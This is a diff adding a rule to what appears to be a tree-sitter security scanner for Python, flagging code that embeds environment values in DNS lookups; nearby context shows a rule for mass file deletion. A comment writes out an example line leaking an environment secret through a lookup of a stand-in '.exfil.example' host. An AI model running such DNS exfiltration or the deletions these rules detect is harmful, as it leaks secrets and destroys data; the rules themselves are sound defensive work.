@@ -106,3 +106,13 @@
  (#set! id "py-destructive")
  (#set! severity "high")
  (#set! message "deletes the files of a whole system or home directory, one by one"))
+
+; socket.gethostbyname(os.environ["KEY"] + ".exfil.example"): a value of
+; the environment sent out as a name to look up (DNS carries it out even
+; where nothing else may connect)
+((call function: (_) @fn arguments: (argument_list . (_) @host)) @finding
+ (#resolves-to? @fn "socket\\.(gethostbyname|gethostbyname_ex|getaddrinfo|getfqdn)|dns\\.resolver\\.(resolve|query|Resolver\\.(resolve|query))")
+ (#match? @host "environ|getenv")
+ (#set! id "py-dns-exfil")
+ (#set! severity "high")
+ (#set! message "puts a value of the environment into a host name it looks up: a secret sent out through DNS"))
